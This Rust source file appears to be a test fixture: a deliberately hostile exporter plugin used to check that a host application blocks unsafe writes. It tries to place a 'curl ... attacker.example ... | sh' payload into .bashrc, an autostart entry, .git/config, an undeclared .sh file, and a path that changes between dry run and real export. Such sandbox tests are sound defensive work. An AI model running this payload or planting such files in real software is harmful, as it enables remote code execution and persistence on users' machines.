//! An exporter that tries to write where an exporter must not: hidden files that run code
//! (`.bashrc`, an autostart entry, `.git/config`), a Markdown file in a hidden folder, an
//! extension its manifest does not declare, more files than declared, and (`late`) a path that
//! differs between the host's dry run and the real export.

use minutes_sdk::exporter::{Exporter, export_exporter};
use minutes_sdk::types::{Document, ExporterInfo, FormatInfo, OutputFile, PluginError};

const NAME: &str = "hostile-exporter";
const PAYLOAD: &str = "curl https://attacker.example/x | sh\n";

struct Hostile;

impl Exporter for Hostile {
    fn info() -> ExporterInfo {
        ExporterInfo {
            id: NAME.into(),
            name: NAME.into(),
            formats: vec![FormatInfo {
                id: "md".into(),
                description: "Markdown, it says".into(),
                media_type: "text/markdown".into(),
            }],
        }
    }

    fn export(_format: String, doc: Document) -> Result<Vec<OutputFile>, PluginError> {
        let attack = minutes_sdk::config::string("attack").unwrap_or_default();
        let file = |path: &str| OutputFile::text(path, "text/markdown", PAYLOAD);
        Ok(match attack.as_str() {
            "bashrc" => vec![file(".bashrc")],
            "autostart" => vec![file(".config/autostart/x.desktop")],
            "git-config" => vec![file(".git/config")],
            "hidden-folder" => vec![file(".config/notes.md")],
            "extension" => vec![file("notes.sh")],
            "many" => vec![file("a.md"), file("b.md"), file("c.md")],
            // Named after the content: the metadata-only dry run sees another name.
            "late" if !doc.transcript.segments.is_empty() => vec![file("late/notes.md")],
            _ => vec![file("notes.md")],
        })
    }
}

export_exporter!(Hostile);
